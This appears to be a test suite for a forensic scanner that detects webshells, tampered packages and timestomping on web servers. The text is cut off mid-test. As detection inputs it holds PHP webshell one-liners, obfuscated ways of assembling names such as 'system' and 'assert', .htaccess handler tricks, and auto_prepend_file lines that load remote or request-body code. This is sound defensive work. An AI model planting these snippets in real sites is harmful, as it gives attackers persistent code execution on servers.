"""The scan engine: Scanner on single files, every signal, LOKI externals,
and `triage scan` / `triage collect` over a real case."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest
import sqlite_utils
from click.testing import CliRunner
from scan_samples import GIF, JPEG, MALICIOUS, elf

from tests.cases import sample_tree
from triage.case import open_case
from triage.cli import cli
from triage.evidence import Evidence
from triage.scan import (
    DAY_NS,
    FileMeta,
    Reason,
    ScanContext,
    Scanner,
    combine,
    find_code,
    obfuscation,
    scan_case,
    signals,
)


@pytest.fixture(autouse=True)
def _cache(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))


@pytest.fixture(scope="module")
def scanner(tmp_path_factory):
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("XDG_CACHE_HOME", str(tmp_path_factory.mktemp("cache")))
        return Scanner()


def rules_of(result) -> set[str]:
    return {r.rule for r in result.reasons}


# -- one file through the API watch uses ----------------------------------------

def test_scanner_takes_a_descriptor_from_the_evidence_door(tree, scanner):
    root = tree({"/var/www/html/up.php": (MALICIOUS / "chopper.php").read_bytes()})
    ev = Evidence(root)
    fd = ev.open_fd("/var/www/html/up.php")
    try:
        result = scanner.scan("/var/www/html/up.php", fd, ev.stat("/var/www/html/up.php"), mime="text/x-php")
    finally:
        os.close(fd)
    assert result.verdict == "webshell"
    assert result.score >= 90
    assert {"triage_php_one_liner", "triage_php_request_direct_exec"} <= rules_of(result)
    assert all(isinstance(r, Reason) and 0 <= r.score <= 100 for r in result.reasons)


def test_clean_file_is_clean(scanner):
    result = scanner.scan("/var/www/html/index.php", b"<?php\nrequire __DIR__ . '/wp-blog-header.php';\n",
                          FileMeta("/var/www/html/index.php"))
    assert result.verdict == "clean" and result.score == 0


def test_size_cap_is_recorded(tmp_path):
    small = Scanner(max_size=1000)
    result = small.scan("/tmp/big.php", b"<?php " + b"/*x*/" * 1000 + b"eval($_POST['a']);")
    assert "size_cap" in rules_of(result)
    assert "triage_php_request_direct_exec" not in rules_of(result)  # beyond the cap


def test_timeout_is_recorded(tmp_path):
    slow = tmp_path / "slow"
    slow.mkdir()
    (slow / "slow.yar").write_text(
        'rule slow { meta: description = "slow" score = 1 condition: for all i in (0..filesize - 1) : '
        '( for all j in (0..filesize - 1) : ( uint8(i) != 0xfe or uint8(j) != 0xfd ) ) }')
    result = Scanner([slow], own_rules=False, timeout=1).scan("/x", b"a" * 200_000)
    assert "timeout" in rules_of(result)


# -- signals ---------------------------------------------------------------------------------

WEB = ScanContext(web_roots=["/var/www/html"])


def sig(path: str, data: bytes, ctx: ScanContext | None = WEB, **meta) -> set[str]:
    return {r.rule for r in signals(FileMeta(path, **meta), data, ctx)}


def test_find_code_is_strict():
    assert find_code(b"GIF89a\x00\x00<?php echo $x; ?>")[0] == "php"
    assert find_code(b"<%@ page import=\"java.io.*\" %>")[0] == "jsp"
    assert find_code(b"<%@ Page Language=\"C#\" %>")[0] == "asp"
    assert find_code(JPEG[:-2] + b"\x00<?\x01\x02<?php\x00\xff\x13" + bytes(range(200))) is None
    assert find_code(b"<?xml version=\"1.0\"?><svg/>") is None


def test_code_in_an_image_comment_followed_by_image_bytes():
    """exiftool -Comment='<?php ... ?>' leaves a short PHP block between binary segments: the block is
    judged up to its closing tag, not with the image bytes after it."""
    import struct

    payload = b"<?php $f=$_COOKIE['k'];$f($_POST['d']); ?>"
    img = JPEG[:2] + b"\xff\xfe" + struct.pack(">H", len(payload) + 2) + payload + JPEG[2:] + bytes(range(256)) * 4
    assert find_code(img) == ("php", 6)
    assert "code_in_media_file" in sig("/var/www/html/uploads/me.jpg", img, mime="image/jpeg")


def test_code_in_media_file():
    assert "code_in_media_file" in sig("/var/www/html/up/a.jpg", JPEG + b"<?php system($_GET['c']); ?>")
    assert "code_in_media_file" in sig("/srv/x.png", GIF + b"<?php echo 1; ?>", mime="image/gif")
    assert not sig("/var/www/html/up/b.jpg", JPEG)
    assert not sig("/var/www/html/up/c.jpg", JPEG[:-2] + b"<?\x00\x01<?php\x00\xff" + bytes(range(250)))


def test_image_header_on_code_and_text_files():
    assert "image_header_on_code" in sig("/var/www/html/s.php", GIF + b"<?php eval($_POST[1]);", mime="image/gif")
    assert "code_in_text_file" in sig("/var/www/html/notes.txt", b"<?php system($_GET['c']);")


def test_double_and_alternative_extensions():
    assert "double_extension" in sig("/var/www/html/shell.php.jpg", b"<?php echo `id`;")
    assert "double_extension" in sig("/var/www/html/img.jpg.php", b"<?php echo 1;")
    assert "alternative_php_extension" in sig("/var/www/html/x.phtml", b"<?php echo 1;")
    assert "alternative_php_extension" in sig("/var/www/html/x.php5", b"<?php echo 1;")
    assert "inc_with_php" in sig("/var/www/html/lib/config.inc", b"<?php $a = 1;")
    assert not sig("/var/www/html/jquery.min.js", b"!function(e){}")


@pytest.mark.parametrize("code", [
    b"$h = 'sy' . 'st' . 'em'; $h($_GET['c']);",
    b"$p1 = 'as'; $p2 = \"se\"; $run = $p1 . $p2 . 'rt'; $run($_POST['z']);",
    b"$f = str_replace('qz', '', 'cqzreaqzte_fuqznction'); $g = $f('', $b);",
    b"$f = strtr('axxevt', 'xv', 'sr'); $f($_REQUEST[1]);",
    b"$f = strrev('metsys'); $f($_GET['c']);",
    b"$f = STR_ROT13('nffreg'); $f($_GET['c']);",
    b"$f = base64_decode('c2hlbGxfZXhlYw=='); echo $f($_GET['c']);",
    b"$f = chr(101) . chr(118) . 'al';",
    b'array_map("ass\\x65rt", (array) $_REQUEST["z"]);',
    b'$f = "\\163\\171\\163\\164\\145\\155"; $f($_GET["c"]);',
    b'@$_ = "s" . "s" . /*-*/ "e" . /*-*/ "r"; @$_ = "a" . /*-*/ $_ . "t"; @$_($_POST["k"]);',
    b"$g = glob($d . '/*'); $h = 'pas' . 'sthru'; $h($_GET['c']);",  # '/*' in a string opens no comment
    b"$f = implode('', array('p', 'a', 's', 's', 't', 'h', 'r', 'u')); $f($_POST['q']);",
    b"$r = str_replace('x9', '', 'sx9trx9_rex9place'); $c = $r('k1', '', 'k1crek1atek1_funk1ctk1ion'); $c('', $b);",
    b"$l = [\n 'sh',\n \"ell_\",\n 'exec'\n]; $x = 1; $f = JOIN(\"\", $l); echo $f($_GET['c']);",
])
def test_a_sink_name_put_together_from_pieces(code, scanner):
    path = "/var/www/html/wp-content/themes/x/footer.php"
    found = signals(FileMeta(path), b"<?php\n" + code, WEB)
    hit = [r for r in found if r.rule == "sink_name_assembled"]
    assert hit and hit[0].category == "webshell", found
    # the same through YARA's pass, where hints.yar tells the signal which words the file holds
    result = scanner.scan(path, b"<?php\n" + code, context=WEB)
    assert "sink_name_assembled" in rules_of(result)
    assert not any(r.ruleset == "triage-hints" or r.rule in ("text_functions", "escapes", "code_tags")
                   for r in result.reasons)


def test_names_written_whole_or_harmless_pieces_are_not_assembled_sinks(scanner):
    for code in (b"$t = $wpdb->prefix . 'options'; $k = 'wp_' . 'cache';", b"$f = strtolower('SYSTEM');",
                 b"$cmd = 'system' . '_info';", b"echo base64_decode('aGVsbG8gd29ybGQ=');",
                 b"$v = str_replace('-', '', 'ab-cd-ef');", b"$f = 'array' . '_' . 'keys';",
                 b'echo "Total:\\x20\\x2410";', b'$check = "assert"; /* the name written whole */',
                 b"$cls = implode('', ['btn', '-', 'primary']);", b"$f = implode('', array('system'));",
                 b"$l = ['s', 'y', 's']; $w = join('', $l);", b"$p = join('', $parts);",
                 b"$t = $fmt('-', '', 'ab-cd-ef'); $u = $fn('x', '', 'system');"):
        assert "sink_name_assembled" not in sig("/var/www/html/page.php", b"<?php " + code), code
        assert "sink_name_assembled" not in rules_of(scanner.scan("/var/www/html/page.php", b"<?php " + code))


def _packed(eval_line: bytes, chunks: int = 300) -> bytes:
    """A packed PHP file the way substitution packers write one: a decoder, the payload in quoted
    chunks of a scrambled base64 alphabet, the table, one call that runs the result (the payload
    here is harmless text)."""
    import base64
    import random

    rng = random.Random(5)
    payload = base64.b64encode(b"echo 'inert sample';\n" * (chunks * 4)).decode()
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    shuffled = "".join(rng.sample(alphabet, len(alphabet)))
    scrambled = payload.translate(str.maketrans(alphabet, shuffled))
    pieces = [scrambled[i:i + 76] for i in range(0, len(scrambled), 76)][:chunks]
    table = ", ".join(f"'{b}'=>'{a}'" for a, b in zip(alphabet, shuffled))
    return (b"<?php\nfunction unpackit($s, $t) {\n  $o = '';\n  for ($i = 0; $i < strlen($s); $i++) "
            b"{ $o .= isset($t[$s[$i]]) ? $t[$s[$i]] : $s[$i]; }\n  $d = \"base64_decode\";\n  return $d($o);\n}\n"
            b"$blob = " + b".\n".join(f"'{p}'".encode() for p in pieces) + b";\n"
            b"$table = Array(" + table.encode() + b");\n" + eval_line + b"\n")


def test_packed_code_executed(scanner):
    path = "/var/www/html/wp-content/plugins/x/loader.php"
    assert "packed_code_executed" in sig(path, _packed(b"eval(unpackit($blob, $table));"))
    assert "packed_code_executed" in rules_of(scanner.scan(path, _packed(b"@ASSERT(unpackit($blob, $table));")))
    # the same bulk of encoded data with nothing that runs it: a font or image table
    assert "packed_code_executed" not in sig(path, _packed(b"$font = unpackit($blob, $table);"))
    # eval in a file that is mostly code, with one long encoded string
    code = b"<?php\n" + b"$rows[] = strtoupper(trim($line));\n" * 200 + b"$k = 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=';"
    assert "packed_code_executed" not in sig(path, code + b"eval($template);")


def test_scripts_in_upload_cache_and_tmp():
    assert "script_in_upload_dir" in sig("/var/www/html/wp-content/uploads/2024/03/thumb.php", b"<?php echo 1;")
    assert "script_in_cache_dir" in sig("/var/www/html/cache/x.php", b"<?php echo 1;")
    got = signals(FileMeta("/tmp/.x/kworker"), elf(b"main"), None)
    assert [r.rule for r in got] == ["executable_in_tmp"] and got[0].score == 50
    assert "executable_in_tmp" in sig("/dev/shm/run.sh", b"#!/bin/sh\necho", mime="text/x-shellscript")
    assert not sig("/tmp/notes.md", b"hello")


def test_htaccess_and_user_ini():
    ht = b"AddType application/x-httpd-php .jpg .png\n"
    assert "htaccess_makes_files_executable" in sig("/var/www/html/uploads/.htaccess", ht)
    assert "htaccess_makes_files_executable" in sig(
        "/var/www/html/uploads/.htaccess", b"<FilesMatch \"x\">\nSetHandler application/x-httpd-php\n</FilesMatch>")
    assert "auto_prepend_file" in sig("/var/www/html/.user.ini", b"auto_prepend_file = /tmp/.s.php\n")
    assert "auto_prepend_file" in sig("/var/www/html/.htaccess", b"php_value auto_prepend_file /tmp/.s.php\n")
    clean = (Path(__file__).parent / "data" / "scan" / "benign" / "htaccess_rules.conf").read_bytes()
    assert not sig("/var/www/html/.htaccess", clean)


def test_htaccess_shells_and_prepends_of_code():
    """A .htaccess that makes .ht files run as PHP carries its own shell; a prepend of the request body,
    a data: URL or a remote URL runs code on every page. A firewall's prepended file is only noted."""
    def found(path: str, data: bytes) -> dict[str, tuple[str, int]]:
        return {r.rule: (r.category, r.score) for r in signals(FileMeta(path), data, WEB)}

    shell = b'<Files ~ "^\\.ht">\nAllow from all\n</Files>\nAddType application/x-httpd-php .htaccess\n# <?php ?>\n'
    assert found("/var/www/html/.htaccess", shell)["htaccess_makes_files_executable"] == ("webshell", 80)
    for target in (b'"php://input"', b"data://text/plain;base64,PD9waHAgPz4=", b"https://198.51.100.7/x.txt"):
        got = found("/var/www/html/.user.ini", b"auto_prepend_file = " + target + b"\n")
        assert got["auto_prepend_file"] == ("webshell", 80), target
    waf = found("/var/www/html/.user.ini", b"auto_prepend_file = '/var/www/html/wordfence-waf.php'\n")
    assert waf["auto_prepend_file"] == ("suspicious", 45)
    # other handlers that run the .htaccess itself: CGI, mod_python's PSP, mod_perl, SSI
    for line in (b"AddHandler cgi-script .htaccess", b"AddHandler mod_python .htaccess",
                 b"AddHandler perl-script .htaccess", b"AddOutputFilter INCLUDES .htaccess"):
        got = found("/var/www/html/.htaccess", b"Options +ExecCGI +Includes\n" + line + b"\n")
        assert got["htaccess_makes_files_executable"] == ("webshell", 80), line
    # a SetHandler for the whole folder, in a .htaccess that holds the code it will run (mod_ruby's ERB)
    erb = b'SetHandler ruby-object\nRubyHandler Apache::ERbRun.instance\n# <%= `#{cgi["c"]}` %>\n'
    assert found("/var/www/html/.htaccess", erb)["htaccess_makes_files_executable"] == ("webshell", 80)
    # the same handler for a folder of real scripts, no code in the .htaccess: nothing to say
    assert not found("/var/www/html/app/.htaccess", b"SetHandler mod_python\nPythonHandler app.handler\n")


def test_web_user_owned_code_in_someone_elses_tree():
    ctx = ScanContext(web_roots=["/var/www/html"], root_owners={"/var/www/html": "deploy"})
    assert "web_user_owned_code" in sig("/var/www/html/x.php", b"<?php echo 1;", ctx, owner="www-data")
    assert not sig("/var/www/html/y.php", b"<?php echo 1;", ctx, owner="deploy")


def test_timestomping_against_neighbours():
    now = 1_700_000_000 * 10**9
    ctx = ScanContext(dir_gap_ns={"/var/www/html": 10**9})
    hit = sig("/var/www/html/a.php", b"<?php echo 1;", ctx, mtime_ns=now - 400 * DAY_NS, btime_ns=now)
    assert "timestomped" in hit
    normal = ScanContext(dir_gap_ns={"/var/www/html": 300 * DAY_NS})
    assert not sig("/var/www/html/a.php", b"<?php echo 1;", normal, mtime_ns=now - 400 * DAY_NS, btime_ns=now)


def test_package_manifest():
    ctx = ScanContext(package_files={"/usr/share/wordpress/index.php": ("wordpress", "aa", 0)},
                      packaged_dirs={"/usr/share/wordpress": "wordpress"})
    assert "not_in_package" in sig("/usr/share/wordpress/x.php", b"<?php echo 1;", ctx)
    assert "package_file_modified" in sig("/usr/share/wordpress/index.php", b"<?php echo 1;", ctx, md5="bb")
    assert not sig("/usr/share/wordpress/index.php", b"<?php echo 1;", ctx, md5="aa")
    rpm = ScanContext(package_files={"/usr/bin/ps": ("procps-ng", "f" * 64, 0, "sha256")})
    assert "package_file_modified" in sig("/usr/bin/ps", elf(b"main"), rpm, md5="aa", sha256="e" * 64)
    assert not sig("/usr/bin/ps", elf(b"main"), rpm, md5="aa", sha256="f" * 64)


def test_a_package_file_with_the_package_checksum_is_not_timestomped():
    now = 1_700_000_000 * 10**9
    ctx = ScanContext(dir_gap_ns={"/usr/bin": 10**9}, package_files={"/usr/bin/yara": ("yara", "aa", 0)})
    times = {"mtime_ns": now - 900 * DAY_NS, "btime_ns": now}
    assert not sig("/usr/bin/yara", elf(b"main"), ctx, md5="aa", **times)
    assert {"timestomped", "package_file_modified"} <= sig("/usr/bin/yara", elf(b"main"), ctx, md5="bb", **times)
    assert "timestomped" in sig("/usr/bin/kthreadd", elf(b"main"), ctx, md5="cc", **times)
    dpkg = ScanContext(dir_gap_ns={"/var/lib/dpkg/info": 10**9})
    assert not sig("/var/lib/dpkg/info/libpulse0:amd64.postinst", b"#!/bin/sh\nset -e\n", dpkg, **times)


def test_package_context_knows_merged_usr_and_shared_folders(tmp_path):
    db = open_case(tmp_path / "c.db")
    db["package_files"].insert_all([
        {"package": "libc6", "path": "/lib/x86_64-linux-gnu/libc.so.6", "md5": "aa", "conffile": 0},
        {"package": "zlib1g", "path": "/lib/x86_64-linux-gnu/libz.so.1", "md5": "bb", "conffile": 0},
        {"package": "apt", "path": "/usr/lib/x86_64-linux-gnu/libapt-pkg.so.6.0", "md5": "ee", "conffile": 0},
        {"package": "wordpress", "path": "/usr/share/wordpress/index.php", "md5": "cc", "conffile": 0},
    ])
    ctx = ScanContext.from_case(db, files=[])
    assert ctx.package_files["/usr/lib/x86_64-linux-gnu/libc.so.6"] == ("libc6", "aa", 0, "md5")
    assert not sig("/usr/lib/x86_64-linux-gnu/libc.so.6", elf(b"main"), ctx, md5="aa")
    assert not sig("/usr/lib/x86_64-linux-gnu/libnew.so.1", elf(b"main"), ctx, md5="dd")  # a shared folder
    assert "not_in_package" in sig("/usr/share/wordpress/x.php", b"<?php echo 1;", ctx)


def test_obfuscation_ranks_only(scanner):
    plain = b"<?php\n" + b"echo 'hello world';\n" * 50
    packed = b"<?php $x='" + bytes(os.urandom(3000)).hex().encode() + b"';"
    assert obfuscation(packed)[0] > obfuscation(plain)[0] + 20
    assert scanner.scan("/var/www/html/p.php", packed).verdict == "clean"  # a measure alone never decides
    ranked = scanner.scan("/var/www/html/wp-content/uploads/p.php", packed, context=WEB)
    same = scanner.scan("/var/www/html/wp-content/uploads/q.php", plain, context=WEB)
    assert ranked.obfuscation > same.obfuscation + 20
    assert (ranked.score, ranked.verdict) == (same.score, same.verdict)
    assert any(r.kind == "rank" for r in ranked.reasons)


def test_dual_use_reported_apart(scanner):
    result = scanner.scan("/var/www/html/adminer.php", (MALICIOUS / "adminer.php").read_bytes())
    assert result.verdict == "dual-use"
    shell = scanner.scan("/var/www/html/a.php", (MALICIOUS / "adminer.php").read_bytes() + b"\n@eval($_POST['x']);")
    assert shell.verdict == "webshell"


def test_combine():
    r = lambda s, c="webshell", k="rule": Reason(k, "r", c, s, "d")  # noqa: E731
    assert combine([]) == (0, "clean")
    assert combine([r(90)])[1] == "webshell"
    assert combine([r(45, "suspicious", "signal")])[1] == "suspicious"
    assert combine([r(55, "suspicious", "signal"), r(50, "attacker-tool")]) == (78, "attacker-tool")
    assert combine([r(90, "suspicious", "rank")]) == (0, "clean")


# -- LOKI externals ---------------------------------------------------------------------------

LOKI_RULE = """
rule loki_style_externals
{
    meta:
        description = "uses every LOKI external"
        score = 65
    strings:
        $a = "MARKER-1234"
    condition:
        $a and filename == "cmd.jsp" and filepath contains "/webapps/ROOT/" and extension == ".jsp"
        and filetype == "-" and owner == "tomcat"
}
"""


def test_signature_base_externals(tree, run_collect, tmp_path):
    rules = tmp_path / "sigbase"
    rules.mkdir()
    (rules / "thor-like.yar").write_text(LOKI_RULE)
    root = tree({
        "/etc/passwd": "root:x:0:0::/root:/bin/sh\ntomcat:x:1234:1234::/opt/tomcat:/bin/false\n",
        "/var/lib/tomcat9/webapps/ROOT/cmd.jsp": "<% // MARKER-1234 %>",
        "/var/lib/tomcat9/webapps/ROOT/other.jsp": "<% // MARKER-1234 %>",
    })
    os.chown(root / "var/lib/tomcat9/webapps/ROOT/cmd.jsp", 1234, 1234)
    os.chown(root / "var/lib/tomcat9/webapps/ROOT/other.jsp", 1234, 1234)
    db = run_collect(root, only=["files"])
    case = db.conn.execute("PRAGMA database_list").fetchone()[2]
    out = CliRunner().invoke(cli, ["scan", case, "--rules", str(rules)])
    assert out.exit_code == 0, out.output
    hits = list(db.query("SELECT path, rule, score, ruleset, category FROM findings "
                         "WHERE rule = 'loki_style_externals'"))
    assert hits == [{"path": "/var/lib/tomcat9/webapps/ROOT/cmd.jsp", "rule": "loki_style_externals", "score": 65,
                     "ruleset": "thor-like.yar", "category": "suspicious"}]


# -- scan over a case --------------------------------------------------------------------------

def make_case(tree, run_collect):
    shell = (MALICIOUS / "chopper.php").read_bytes()
    root = tree({
        "/etc/passwd": "root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/var/www:/bin/false\n",
        "/var/www/html/index.php": "<?php require 'x.php';\n",
        "/var/www/html/a.php": "<?php echo 1;\n",
        "/var/www/html/b.php": "<?php echo 2;\n",
        "/var/www/html/wp-content/uploads/s.php": shell,
        "/var/www/html/wp-content/uploads/copy.php": shell,
        "/var/www/html/old.php": "<?php echo 3;\n",
        "/tmp/.x/miner.json": (MALICIOUS / "config.json").read_bytes(),
        "/opt/data/notes.md": "MARKER nothing",
        "/opt/data/pool.dat": (MALICIOUS / "config.json").read_bytes(),
        "/opt/data/run.dat": (MALICIOUS / "revshell.sh").read_bytes(),
    })
    old = time.time() - 400 * 86400
    os.utime(root / "var/www/html/old.php", (old, old))
    return root, run_collect(root, only=["files"])


def test_scan_command_writes_run_findings_and_scores(tree, run_collect):
    root, db = make_case(tree, run_collect)
    case = db.conn.execute("PRAGMA database_list").fetchone()[2]
    out = CliRunner().invoke(cli, ["scan", case])
    assert out.exit_code == 0, out.output
    run = list(db.query("SELECT * FROM runs WHERE command = 'scan'"))
    assert len(run) == 1 and run[0]["status"] == "complete" and len(run[0]["rules_digest"]) == 64
    scores = {r["path"]: r for r in db.query("SELECT * FROM file_scores")}
    assert scores["/var/www/html/wp-content/uploads/s.php"]["verdict"] == "webshell"
    assert scores["/var/www/html/wp-content/uploads/copy.php"]["verdict"] == "webshell"  # same content, own row
    reasons = json.loads(scores["/var/www/html/wp-content/uploads/s.php"]["reasons"])
    assert any("script_in_upload_dir" in r for r in reasons) and any("triage_php_one_liner" in r for r in reasons)
    assert scores["/tmp/.x/miner.json"]["verdict"] == "attacker-tool"
    assert "/var/www/html/index.php" not in scores  # nothing to say: counted, not stored
    counts = json.loads(run[0]["row_counts"])
    assert counts["scanned"] >= 8 and counts["unique_contents"] == counts["scanned"] - 1
    assert "timestomped" in scores["/var/www/html/old.php"]["reasons"]
    assert "/opt/data/pool.dat" not in scores  # outside the default scope
    assert scores["/opt/data/run.dat"]["verdict"] == "attacker-tool"  # every script is in scope
    assert (Path(os.environ["XDG_CACHE_HOME"]) / "triage" / "rules").glob("*.yarc")
    found = list(db.query("SELECT kind, rule, category, score, run_id FROM findings WHERE path LIKE '%s.php'"))
    assert {f["run_id"] for f in found} == {run[0]["id"]}

    out = CliRunner().invoke(cli, ["scan", case, "--all"])
    assert out.exit_code == 0
    scores = {r["path"]: r for r in db.query("SELECT * FROM file_scores")}
    assert scores["/opt/data/pool.dat"]["verdict"] == "attacker-tool"
    assert db.execute("SELECT count(DISTINCT run_id) FROM findings").fetchone()[0] == 1  # a rescan replaces


def test_files_sent_ahead_are_judged_with_the_whole_context(tree, run_collect, monkeypatch):
    """Workers match files sent before the context exists and judge them once it comes: the answers are
    those of a scan that had the context first (timestomping needs the neighbours, copies stay one job)."""
    import triage.scan as scan_module

    root, db = make_case(tree, run_collect)
    case = db.conn.execute("PRAGMA database_list").fetchone()[2]
    answers = {}
    for processes, share in ((False, 25), (True, 1)):
        monkeypatch.setattr(scan_module, "AHEAD_SHARE", share)  # 1: every file not a copy goes ahead
        summary = scan_case(case, workers=2, processes=processes, argv=[])
        assert summary.status == "complete" and summary.unique == summary.files - 1
        answers[processes] = sorted(db.execute("SELECT path, verdict, score, reasons FROM file_scores").fetchall())
    assert answers[True] == answers[False]
    assert any(path.endswith("old.php") and "timestomped" in reasons for path, _v, _s, reasons in answers[True])


def test_collect_runs_the_scan_unless_told_not_to(tree, tmp_path):
    root = tree({"/var/www/html/s.php": (MALICIOUS / "chopper.php").read_bytes()})
    case = tmp_path / "c.db"
    out = CliRunner().invoke(cli, ["collect", str(root), "-c", str(case), "--no-scan"])
    assert out.exit_code == 0, out.output
    db = sqlite_utils.Database(case)
    assert db.execute("SELECT count(*) FROM runs WHERE command = 'scan'").fetchone()[0] == 0
    case2 = tmp_path / "d.db"
    out = CliRunner().invoke(cli, ["collect", str(root), "-c", str(case2)])
    assert out.exit_code == 0, out.output
    db = sqlite_utils.Database(case2)
    assert db.execute("SELECT verdict FROM file_scores WHERE path = '/var/www/html/s.php'").fetchone()[0] == "webshell"


def test_scan_errors_are_one_line(tmp_path):
    out = CliRunner().invoke(cli, ["scan", str(tmp_path / "none.db")])
    assert out.exit_code == 2
    case = tmp_path / "empty.db"
    from triage.case import open_case

    open_case(case)
    out = CliRunner().invoke(cli, ["scan", str(case)])
    assert out.exit_code == 1 and "collect first" in out.output


def test_sample_scenario(tmp_path):
    root = sample_tree("hacked-debian", tmp_path / "root")
    case = tmp_path / "case.db"
    out = CliRunner().invoke(cli, ["collect", str(root), "-c", str(case), "--only", "files"])
    assert out.exit_code == 0, out.output
    db = sqlite_utils.Database(case)
    verdicts = dict(db.execute("SELECT path, verdict FROM file_scores WHERE verdict != 'clean'").fetchall())
    up = "/var/www/html/wp-content/uploads/2024/03/"
    assert verdicts[up + "thumb.php"] == "webshell"
    assert verdicts[up + "logo.gif"] == "webshell"
    assert verdicts[up + ".htaccess"] == "webshell"
    assert verdicts["/tmp/.x/config.json"] == "attacker-tool"
    assert verdicts["/tmp/.x/kworker"] == "suspicious"
    assert "/var/www/html/index.php" not in verdicts
    assert "/var/www/html/wp-config.php" not in verdicts


def test_context_from_case_tables(tree, run_collect):
    """Web roots from vhosts, manifests from package_files, source folders named upload/."""
    root = tree({
        "/srv/site/index.php": "<?php echo 1;",
        "/srv/site/x.phtml": "<?php echo 2;",
        "/usr/share/app/a.php": "<?php echo 3;",
        "/usr/share/app/evil.php": "<?php echo 4;",
        **{f"/srv/site/lib/upload/Handler{i}.php": f"<?php class H{i} {{}}" for i in range(6)},
        "/srv/site/uploads/img.png": GIF,
        "/srv/site/uploads/s.php": "<?php echo 5;",
    })
    db = run_collect(root, only=["files"])
    db["vhosts"].insert({"server": "apache", "name": "site", "document_root": "/srv/site"})
    db["package_files"].insert({"package": "app", "path": "/usr/share/app/a.php", "md5": "x", "conffile": 0})
    case = db.conn.execute("PRAGMA database_list").fetchone()[2]
    assert CliRunner().invoke(cli, ["scan", case]).exit_code == 0
    reasons = {r["path"]: r["reasons"] for r in db.query("SELECT path, reasons FROM file_scores")}
    assert "alternative_php_extension" in reasons["/srv/site/x.phtml"]
    assert "not_in_package" in reasons["/usr/share/app/evil.php"]
    assert "package_file_modified" in reasons["/usr/share/app/a.php"]
    assert "script_in_upload_dir" in reasons["/srv/site/uploads/s.php"]
    assert "/srv/site/lib/upload/Handler0.php" not in reasons


@pytest.mark.parametrize("processes", [False, True])
def test_names_that_are_not_utf8_are_scanned_and_flagged(tree, run_collect, processes):
    """A real root had one: YARA's externals are text, so the name goes in escaped, and the scan goes on."""
    root = tree({"/var/www/html/index.php": "<?php echo 'hi';\n"})
    bad = os.fsencode(root) + b"/var/www/html/up\xff.php.jpg"
    with open(bad, "wb") as fh:
        fh.write(b"GIF89a<?php eval($_POST['x']); ?>")
    db = run_collect(root, only=["files"])
    case = db.conn.execute("PRAGMA database_list").fetchone()[2]
    summary = scan_case(case, workers=2, processes=processes, argv=[])
    assert summary.status == "complete" and summary.errors == 0
    scores = {r["path"]: r["verdict"] for r in db.query("SELECT path, verdict FROM file_scores")}
    assert scores == {"/var/www/html/up\\xff.php.jpg": "webshell"}
    details = [r["detail"] for r in db.query("SELECT detail FROM findings WHERE rule = 'double_extension'")]
    assert details == ["up\\xff.php.jpg"]


def test_hint_prefixes_follow_the_sink_names():
    """hints.yar lists every quoted prefix of ASSEMBLED_SINKS (up to 16 characters), so the chain analysis
    it gates never skips a file that spells the start of a sink's name in a string."""
    import re

    from triage.scan import ASSEMBLED_SINKS, HINTS

    listed = set(re.findall(r"""\$sink_prefix_\d+ = "'([a-z_]+)'" nocase""", HINTS.read_text()))
    expected = {name[:j] for name in ASSEMBLED_SINKS for j in range(1, min(len(name), 16) + 1)}
    assert listed == expected


def test_inventory_extension_is_the_one_the_name_gives(tree, run_collect):
    """The scan takes each file's extension from the inventory's column instead of working it out again:
    both agree on the awkward names (dotfiles, trailing dots, upper case, double extensions, none)."""
    from triage.scan import inventory

    names = [".bashrc", ".hidden.PHP", "x.", "archive.tar.GZ", "noext", "shell.php.jpg", "..double", "a.b.c.Phtml"]
    root = tree({f"/var/www/html/{n}": "<?php echo 1;" for n in names})
    db = run_collect(root, only=["files"])
    got = {m.path: m.ext for m in inventory(db)}
    assert len(got) == len(names)
    assert got == {p: FileMeta(p).ext for p in got}


def test_an_interrupted_scan_is_resumed_where_it_stopped(tree, run_collect, monkeypatch):
    """A scan stopped after a few batches keeps what it judged; --resume scans the rest under the same
    run and ends with the answers an uninterrupted scan gives; it refuses other options or a finished run."""
    import triage.scan as scan_module
    from triage.case import CaseError

    shell = (MALICIOUS / "chopper.php").read_bytes()
    files = {f"/var/www/html/p{i:03}.php": f"<?php echo {i};" for i in range(200)}
    files.update({f"/var/www/html/up/s{i}.php": shell + f"// {i}".encode() for i in range(0, 200, 40)})
    root = tree(files)
    db = run_collect(root, only=["files"])
    case = db.conn.execute("PRAGMA database_list").fetchone()[2]

    whole = scan_case(case, workers=1, processes=False, argv=[])
    expected = sorted(db.execute("SELECT path, verdict, score FROM file_scores").fetchall())
    assert whole.status == "complete" and len(expected) == 5

    real, calls = scan_module._scan_batch, []

    def stop_on_the_third(*args, **kwargs):
        calls.append(1)
        if len(calls) == 3:
            raise KeyboardInterrupt
        return real(*args, **kwargs)

    monkeypatch.setattr(scan_module, "_scan_batch", stop_on_the_third)
    cut = scan_case(case, workers=1, processes=False, argv=[])
    assert cut.status == "interrupted"
    judged = db.execute("SELECT sum(last - first + 1) FROM scan_done WHERE run_id = ?", [cut.run_id]).fetchone()[0]
    assert 0 < judged < cut.unique
    monkeypatch.setattr(scan_module, "_scan_batch", real)

    with pytest.raises(CaseError, match="other rules or options"):
        scan_case(case, workers=1, processes=False, all_files=True, resume=True, argv=[])
    calls.clear()
    monkeypatch.setattr(scan_module, "_scan_batch", lambda *a, **k: (calls.append(len(a[2])), real(*a, **k))[1])
    done = scan_case(case, workers=1, processes=False, resume=True, argv=[])
    assert done.run_id == cut.run_id and done.status == "complete"
    assert sum(calls) == cut.unique - judged  # only the contents left were scanned
    assert sorted(db.execute("SELECT path, verdict, score FROM file_scores").fetchall()) == expected
    counts = json.loads(db.execute("SELECT row_counts FROM runs WHERE id = ?", [done.run_id]).fetchone()[0])
    assert counts["scanned"] == whole.files and done.flagged == whole.flagged
    with pytest.raises(CaseError, match="nothing to resume"):
        scan_case(case, workers=1, processes=False, resume=True, argv=[])


def test_sink_on_a_variable_the_script_never_sets():
    """register_globals shells: system($cmd) with nothing in the file giving $cmd a value."""
    path = "/var/www/html/tools/x.php"
    shell = b"<?php\nif ($command) {\n  echo '<pre>';\n  system($command);\n}\n?><form><input name=command></form>"
    assert "sink_on_unset_variable" in sig(path, shell)
    for benign in (
